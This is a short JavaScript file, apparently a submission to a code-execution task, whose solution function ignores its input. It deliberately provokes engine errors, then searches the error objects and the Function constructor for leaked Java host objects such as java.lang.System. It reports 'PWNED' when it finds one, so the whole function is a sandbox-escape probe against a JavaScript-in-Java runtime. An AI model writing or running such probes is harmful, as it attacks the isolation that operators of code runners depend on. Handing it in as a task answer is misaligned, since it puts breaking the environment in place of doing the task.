function solution(arr) {
  const makers = [() => new Array(-1), () => 'x'.repeat(2 ** 30), () => load('/x'), () => Java.type('x'), () => { const f = () => f(); f(); }, () => new Intl.NumberFormat('xx-invalid-locale-123456789'), () => JSON.parse('['.repeat(1e5)), () => decodeURIComponent('%')];
  for (const make of makers) {
    try { make(); } catch (e) {
      for (const key of Reflect.ownKeys(Object(e)).concat('getClass', 'class', 'cause', 'printStackTrace')) {
        const it = e[key];
        if (it && typeof it === 'object' && typeof it.getClass === 'function') return 'PWNED:error ' + String(key);
      }
      const C = e.constructor && e.constructor.constructor;
      if (C && C('return typeof Java !== "undefined" && typeof Java.type === "function" && (() => { try { return !!Java.type("java.lang.System") } catch { return false } })()')()) return 'PWNED:realm';
    }
  }
  throw new Error('only guest objects');
}
